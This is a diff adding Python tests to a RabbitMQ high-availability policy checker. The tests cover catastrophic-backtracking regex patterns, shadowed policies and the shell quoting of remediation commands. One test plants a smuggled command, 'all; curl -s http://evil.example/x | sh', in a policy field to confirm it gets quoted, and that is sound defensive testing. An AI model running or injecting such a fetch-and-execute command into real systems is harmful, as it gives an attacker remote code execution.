@@ -3,7 +3,15 @@ undecidable patterns — from Facts fixtures."""
 
 from __future__ import annotations
 
-from rabbitmq_preflight.facts import ClusterNode
+import json
+import shlex
+import time
+from pathlib import Path
+
+from rabbitmq_preflight.definitions import with_definitions
+from rabbitmq_preflight.facts import ClusterNode, Facts
+from rabbitmq_preflight.policy import PolicyIndex
+from rabbitmq_preflight.report import Report
 from tests.ha_facts import THREE, facts, judge, management, policy, queue, statuses
 
 HA_ALL = policy("ha-all", ".*", {"ha-mode": "all", "ha-sync-mode": "automatic"}, 1)
@@ -99,3 +107,78 @@ def test_coverage_of_a_definitions_source_is_judged_without_live_state() -> None
     report = judge(facts(mgmt, inventory=[]), "HA002", "HA005", "HA011", "NODE001")
     assert [f.rule for f in report.findings] == ["HA002"]
     assert statuses(report)[("HA005", None)] == "skipped" and statuses(report)[("NODE001", None)] == "skipped"
+
+
+# --- patterns PCRE gives up on: undecidable, never "mirrored", never a hang ---------------------
+
+CATASTROPHIC = [policy("ha-slow", "(?:a+)+b|c", {"ha-mode": "all"}, 5),
+                policy("ha-dollar", "(a+)+$", {"ha-mode": "all"}, 4)]
+SLOW_NAMES = ["a" * 30 + "c", "a" * 32 + "c", "a" * 40, "a" * 30 + "!"]
+
+
+def _unmirrored(report: Report) -> list[str]:
+    """Queues HA001 calls unmirrored: only names no policy can match (PCRE says no match too)."""
+    return sorted(ex for f in report.findings if f.rule == "HA001"
+                  for g in f.evidence["groups"] for ex in g["examples"])
+
+
+def _verdicts(report_facts: Facts) -> tuple[Report, float]:
+    t0 = time.perf_counter()
+    report = judge(report_facts, "HA001", "HA002", "HA013")
+    return report, time.perf_counter() - t0
+
+
+def test_backtracking_pattern_on_long_names_is_undecidable_not_mirrored_and_finishes() -> None:
+    report, took = _verdicts(facts(management(policies=CATASTROPHIC, queues=[queue(n) for n in SLOW_NAMES])))
+    assert took < 30  # generous: the point is that it ends (it ran for minutes before)
+    by_rule = {f.rule: f for f in report.findings}
+    assert _unmirrored(report) == ["a" * 30 + "!"]  # the others: open, neither covered nor not
+    assert "evaluation budget" in by_rule["HA013"].message
+    index = PolicyIndex(CATASTROPHIC)
+    for name in SLOW_NAMES:
+        res = index.resolve("/", name)
+        assert not res.mirrored or res.undecidable, name  # never "mirrored" on our word alone
+    assert [cp.name for cp in index.resolve("/", "a" * 32 + "c").undecidable] == ["ha-slow"]
+    assert index.resolve("/", "c").mirrored  # a short name PCRE decides easily is still decided
+
+
+def test_backtracking_pattern_from_a_facts_file_is_judged_the_same(tmp_path: Path) -> None:
+    saved = tmp_path / "facts.json"
+    saved.write_text(facts(management(policies=CATASTROPHIC, queues=[queue(n) for n in SLOW_NAMES])).to_json())
+    report, took = _verdicts(Facts.model_validate_json(saved.read_text()))
+    assert took < 30 and _unmirrored(report) == ["a" * 30 + "!"]
+
+
+def test_backtracking_pattern_in_a_definitions_file_is_undecidable(tmp_path: Path) -> None:
+    export = {"rabbitmq_version": "3.10.8", "vhosts": [{"name": "/"}],
+              "policies": [{"vhost": "/", "name": "ha-slow", "pattern": "(?:a+)+b|c", "apply-to": "queues",
+                            "definition": {"ha-mode": "all", "ha-sync-mode": "automatic"}, "priority": 5}],
+              "queues": [{"name": n, "vhost": "/", "durable": True, "auto_delete": False, "arguments": {}}
+                         for n in SLOW_NAMES]}
+    path = tmp_path / "definitions.json"
+    path.write_text(json.dumps(export))
+    report, took = _verdicts(with_definitions(None, path))
+    assert took < 30
+    by_rule = {f.rule: f for f in report.findings}
+    assert _unmirrored(report) == ["a" * 30 + "!", "a" * 40]  # no `c`: no match, for PCRE as for us
+    assert "ha-slow" in by_rule["HA013"].message and "coverage of 2 queues" in by_rule["HA013"].message
+
+
+def test_shadow_is_not_claimed_when_an_unevaluable_policy_may_be_the_real_winner() -> None:
+    odd = policy("odd", r"^(o)\1", {"ha-mode": "all", "message-ttl": 1}, 20)  # backreference: HA013
+    report = judge(facts(management(policies=[HA_ALL, TTL, odd], queues=[queue("orders.1")])), "HA002", "HA013")
+    assert [f.rule for f in report.findings] == ["HA013"]
+    assert statuses(report)[("HA002", None)] == "pass"
+
+
+def test_shadow_is_still_reported_when_the_unevaluable_policy_cannot_win() -> None:
+    odd = policy("odd", r"^(o)\1", {"ha-mode": "all"}, 0)
+    report = judge(facts(management(policies=[HA_ALL, TTL, odd], queues=[queue("orders.1")])), "HA002")
+    assert [f.rule for f in report.findings] == ["HA002"]
+
+
+def test_apply_to_from_the_api_is_shell_quoted_in_the_remediation() -> None:
+    evil = policy("ha-all", ".*", {"ha-mode": "all"}, 1, apply_to="all; curl -s http://evil.example/x | sh")
+    [finding] = judge(facts(management(policies=[evil])), "HA006").findings
+    assert "--apply-to 'all; curl -s http://evil.example/x | sh'" in finding.remediation
+    assert shlex.split(finding.remediation.split("rabbitmqctl", 1)[1])[-1] == "all; curl -s http://evil.example/x | sh"
